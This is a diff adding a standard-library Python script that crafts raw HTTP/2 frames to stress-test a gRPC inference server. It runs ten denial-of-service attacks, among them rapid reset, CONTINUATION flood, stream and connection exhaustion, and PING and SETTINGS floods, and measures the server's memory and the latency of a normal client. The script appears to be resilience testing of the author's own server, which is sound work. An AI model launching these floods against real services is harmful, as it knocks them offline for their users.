@@ -1,0 +1,405 @@
+"""HTTP/2 written by hand: attacks on a gRPC server that no client library would send, and a polite
+client that measures what others notice of them. Standard library alone.
+
+    http2_attacks.py HOST:PORT PID ATTACK...   runs attacks and prints what each did to the process
+"""
+
+import os
+import socket
+import struct
+import sys
+import threading
+import time
+
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
+    0, 1, 3, 4, 6, 7, 8, 9)
+END_STREAM = ACK = 0x1
+END_HEADERS = 0x4
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEALTH = "/grpc.health.v1.Health/Check"
+GENERATE = "/fox.v1.Inference/Generate"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(
+        ">I", stream) + payload
+
+
+def literal(text):
+    data = text.encode()
+    if len(data) < 127:
+        return bytes((len(data),)) + data
+    length, out = len(data) - 127, [127]
+    while length >= 128:
+        out.append(length % 128 + 128)
+        length //= 128
+    return bytes(out + [length]) + data
+
+
+def header(name, value):
+    """A header field without indexing, so that the peer's table stays empty."""
+    return b"\x00" + literal(name) + literal(value)
+
+
+def request_headers(method=HEALTH, extra=()):
+    fields = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "test"),
+              ("te", "trailers"), ("content-type", "application/grpc"), *extra]
+    return b"".join(header(name, value) for name, value in fields)
+
+
+def message(body=b""):
+    return b"\0" + struct.pack(">I", len(body)) + body
+
+
+class Connection:
+    """A connection that has sent its preface. Frames of the peer are read by `read` alone."""
+
+    def __init__(self, address, timeout=20.0, source=None):
+        source_address = (source, 0) if source else None
+        self.socket = socket.create_connection(address, timeout, source_address)
+        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.buffer = b""
+        self.stream = -1
+        self.answers = True  # acknowledges SETTINGS and PING
+        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *unused):
+        self.socket.close()
+
+    def next_stream(self):
+        self.stream += 2
+        return self.stream
+
+    def read(self):
+        """Returns (kind, flags, stream, payload); raises OSError at the end of the connection."""
+        while len(self.buffer) < 9 or len(self.buffer) < 9 + self.length():
+            data = self.socket.recv(1 << 16)
+            if not data:
+                raise ConnectionError("closed")
+            self.buffer += data
+        end = 9 + self.length()
+        kind, flags = self.buffer[3], self.buffer[4]
+        stream = struct.unpack(">I", self.buffer[5:9])[0]
+        payload, self.buffer = self.buffer[9:end], self.buffer[end:]
+        if not self.answers:
+            pass
+        elif kind == SETTINGS and not flags & ACK:
+            self.socket.sendall(frame(SETTINGS, ACK, 0))
+        elif kind == PING and not flags & ACK:
+            self.socket.sendall(frame(PING, ACK, 0, payload))
+        return kind, flags, stream, payload
+
+    def length(self):
+        return struct.unpack(">I", b"\0" + self.buffer[:3])[0]
+
+    def call(self, method=HEALTH, body=b""):
+        """One unary call. Returns the answer's message, None if there was none."""
+        stream, answer = self.next_stream(), None
+        self.socket.sendall(
+            frame(HEADERS, END_HEADERS, stream, request_headers(method)) +
+            frame(DATA, END_STREAM, stream, message(body)))
+        while True:
+            kind, flags, of, payload = self.read()
+            if kind == GOAWAY:
+                raise ConnectionError("goaway")
+            if of != stream:
+                continue
+            if kind == DATA and payload:
+                answer = payload[5:]
+                self.socket.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload))))
+            if kind == RST_STREAM or flags & END_STREAM:
+                return answer
+
+
+def is_serving(address, timeout=20.0):
+    """Whether a new connection is told SERVING within the timeout."""
+    try:
+        with Connection(address, timeout) as connection:
+            return connection.call() == b"\x08\x01"
+    except OSError:
+        return False
+
+
+class Victim(threading.Thread):
+    """A polite client: one health check after the other on one connection."""
+
+    def __init__(self, address):
+        super().__init__(daemon=True)
+        self.address, self.seconds, self.errors, self.ended = address, [], 0, False
+        self.start()
+
+    def run(self):
+        connection = None
+        while not self.ended:
+            start = time.monotonic()
+            try:
+                connection = connection or Connection(self.address)
+                assert connection.call() == b"\x08\x01"
+            except (OSError, AssertionError):
+                self.errors, connection = self.errors + 1, None
+            self.seconds.append(time.monotonic() - start)
+            time.sleep(0.005)
+
+    def end(self):
+        self.ended = True
+        self.join()
+        ordered = sorted(self.seconds)
+        return {"calls": len(ordered), "errors": self.errors,
+                "p99_ms": round(1000 * ordered[int(len(ordered) * 0.99) - 1], 1),
+                "max_ms": round(1000 * ordered[-1], 1)}
+
+
+# ---- attacks: each takes an address and a size, and returns what it saw --------------------------
+
+
+def send_all(connection, data):
+    """Sends while the peer's frames are read away. Returns what was sent before the end, and why
+    the peer ended the connection."""
+    ends = []
+    connection.answers = False  # two threads would write over each other
+
+    def drain():
+        try:
+            while True:
+                kind, _, _, payload = connection.read()
+                if kind == GOAWAY:
+                    ends.append("GOAWAY " + payload[8:].decode(errors="replace")[:60])
+        except OSError:
+            ends.append("closed")
+
+    reader = threading.Thread(target=drain, daemon=True)
+    reader.start()
+    sent = 0
+    try:
+        for chunk in data:
+            connection.socket.sendall(chunk)
+            sent += len(chunk)
+    except OSError:
+        pass
+    try:
+        connection.socket.shutdown(socket.SHUT_WR)
+    except OSError:
+        pass
+    reader.join(10)
+    return sent, ends[0] if ends else "open"
+
+
+def rapid_reset(address, count, body=None, method=HEALTH):
+    """Streams that are reset as soon as they are opened."""
+    fields = request_headers(method)
+
+    def chunks():
+        for first in range(1, 2 * count, 1000):
+            out = []
+            for stream in range(first, min(first + 1000, 2 * count), 2):
+                out.append(frame(HEADERS, END_HEADERS, stream, fields))
+                if body is not None:
+                    out.append(frame(DATA, END_STREAM, stream, message(body)))
+                out.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
+            yield b"".join(out)
+
+    with Connection(address) as connection:
+        return send_all(connection, chunks())
+
+
+def requests_reset(address, count):
+    """The same with whole requests: {prompt "hi", max_tokens 1}."""
+    return rapid_reset(address, count, b"\x12\x04\x0a\x02hi", GENERATE)
+
+
+def continuation_flood(address, mebibytes):
+    """One stream whose headers never end, each frame below the limit of metadata."""
+    fields = b"".join(header("x-%d" % i, "y" * 900) for i in range(7))
+    chunk = b"".join(frame(CONTINUATION, 0, 1, fields) for _ in range(16))
+
+    def chunks():
+        yield frame(HEADERS, 0, 1, request_headers())
+        for _ in range((mebibytes << 20) // len(chunk)):
+            yield chunk
+
+    with Connection(address) as connection:
+        return send_all(connection, chunks())
+
+
+def long_header(address, mebibytes):
+    """One header whose value never ends."""
+    chunk = frame(CONTINUATION, 0, 1, b"y" * 16384) * 4
+
+    def chunks():
+        yield frame(HEADERS, 0, 1, request_headers() + b"\x00\x01x\x7f\xff\xff\xff\x7f")
+        for _ in range((mebibytes << 20) // len(chunk)):
+            yield chunk
+
+    with Connection(address) as connection:
+        return send_all(connection, chunks())
+
+
+def many_streams(address, count):
+    """Streams with nearly 8 KiB of headers that are opened and left."""
+    fields = request_headers(GENERATE, [("x", "y" * 7000)])
+
+    def chunks():
+        for stream in range(1, 2 * count, 2):
+            yield frame(HEADERS, END_HEADERS, stream, fields)
+
+    with Connection(address) as connection:
+        return send_all(connection, chunks())
+
+
+class Windows:
+    """What the peer lets us send, of all streams together and of each."""
+
+    def __init__(self):
+        self.whole, self.initial, self.streams = 65535, 65535, {}
+
+    def take(self, kind, flags, stream, payload):
+        if kind == WINDOW_UPDATE and stream == 0:
+            self.whole += struct.unpack(">I", payload)[0]
+        elif kind == WINDOW_UPDATE and stream in self.streams:
+            self.streams[stream] += struct.unpack(">I", payload)[0]
+        elif kind == SETTINGS and not flags & ACK:
+            for i in range(0, len(payload), 6):
+                key, value = struct.unpack(">HI", payload[i:i + 6])
+                if key == 4:
+                    for one in self.streams:
+                        self.streams[one] += value - self.initial
+                    self.initial = value
+
+
+def half_messages(address, mebibytes, length=4 << 20):
+    """Messages of 4 MiB, each on a stream of its own, of which the last byte is never sent. Sends
+    as the windows allow; gives up when they stay shut for a second."""
+    whole = message(b"y" * length)[:-1]
+    windows, sent, end = Windows(), 0, "open"
+    with Connection(address, timeout=1) as connection:
+        try:
+            while sent < mebibytes << 20:
+                stream = connection.next_stream()
+                windows.streams[stream] = windows.initial
+                connection.socket.sendall(
+                    frame(HEADERS, END_HEADERS, stream, request_headers(GENERATE)))
+                start = 0
+                while start < len(whole):
+                    n = min(len(whole) - start, windows.streams[stream], windows.whole, 16384)
+                    if n <= 0:
+                        windows.take(*connection.read())
+                        continue
+                    connection.socket.sendall(frame(DATA, 0, stream, whole[start:start + n]))
+                    windows.streams[stream] -= n
+                    windows.whole -= n
+                    start, sent = start + n, sent + n
+        except TimeoutError:
+            end = "shut"
+        except OSError as error:
+            end = str(error)
+        time.sleep(0.3)
+    return sent, end
+
+
+def half_handshakes(address, count):
+    """Connections that never say a word. Returns how many the server closed within 30 s, and
+    when the last one."""
+    start = time.monotonic()
+    sockets, closed = [], 0
+    for _ in range(count):
+        try:
+            sockets.append(socket.create_connection(address, 5))
+        except OSError:
+            closed += 1
+    for one in sockets:
+        one.settimeout(max(0.01, 30 - (time.monotonic() - start)))
+        try:
+            while one.recv(4096):
+                pass
+            closed += 1
+        except TimeoutError:
+            pass
+        except OSError:
+            closed += 1
+    for one in sockets:
+        one.close()
+    return closed, "closed after %.1f s" % (time.monotonic() - start)
+
+
+def connections(address, count):
+    """Connections held open; then whether a new client is served within a second of their end."""
+    held = []
+    for _ in range(count):
+        try:
+            held.append(socket.create_connection(address, 5))
+            held[-1].sendall(PREFACE + frame(SETTINGS, 0, 0))
+        except OSError:
+            pass
+    for one in held:
+        one.close()
+    start = time.monotonic()
+    while not is_serving(address, 1) and time.monotonic() - start < 150:
+        time.sleep(0.01)
+    return len(held), "new client after %.2f s" % (time.monotonic() - start)
+
+
+def pings(address, count):
+    data = frame(PING, 0, 0, b"12345678") * 100
+    with Connection(address) as connection:
+        return send_all(connection, (data for _ in range(count // 100)))
+
+
+def settings(address, count):
+    data = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100
+    with Connection(address) as connection:
+        return send_all(connection, (data for _ in range(count // 100)))
+
+
+ATTACKS = {
+    "rapid_reset": (rapid_reset, 100000), "requests_reset": (requests_reset, 50000),
+    "continuation_flood": (continuation_flood, 1000), "long_header": (long_header, 100),
+    "many_streams": (many_streams, 50000), "half_messages": (half_messages, 1000),
+    "half_handshakes": (half_handshakes, 300), "connections": (connections, 3000),
+    "pings": (pings, 100000), "settings": (settings, 100000)}
+
+
+def resident_mib(pid):
+    with open("/proc/%d/statm" % pid) as file:
+        return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20
+
+
+def measure(address, pid, attack, size):
+    """Runs one attack beside a polite client. Returns a dict of what it did to the process."""
+    before = peak = resident_mib(pid)
+    victim, done = Victim(address), threading.Event()
+
+    def watch():
+        nonlocal peak
+        while not done.wait(0.01):
+            peak = max(peak, resident_mib(pid))
+
+    watcher = threading.Thread(target=watch)
+    watcher.start()
+    start = time.monotonic()
+    try:
+        result = attack(address, size)
+    finally:
+        seconds = time.monotonic() - start
+        time.sleep(0.5)
+        done.set()
+        watcher.join()
+        polite = victim.end()
+    return {"result": result, "seconds": round(seconds, 2), "before_mib": round(before),
+            "peak_mib": round(peak - before), "kept_mib": round(resident_mib(pid) - before),
+            **polite}
+
+
+def main():
+    host, port = sys.argv[1].rsplit(":", 1)
+    for name in sys.argv[3:] or ATTACKS:
+        name, _, size = name.partition("=")
+        attack, default = ATTACKS[name]
+        print(name, measure((host, int(port)), int(sys.argv[2]), attack, int(size or default)),
+              flush=True)
+
+
+if __name__ == "__main__":
+    main()
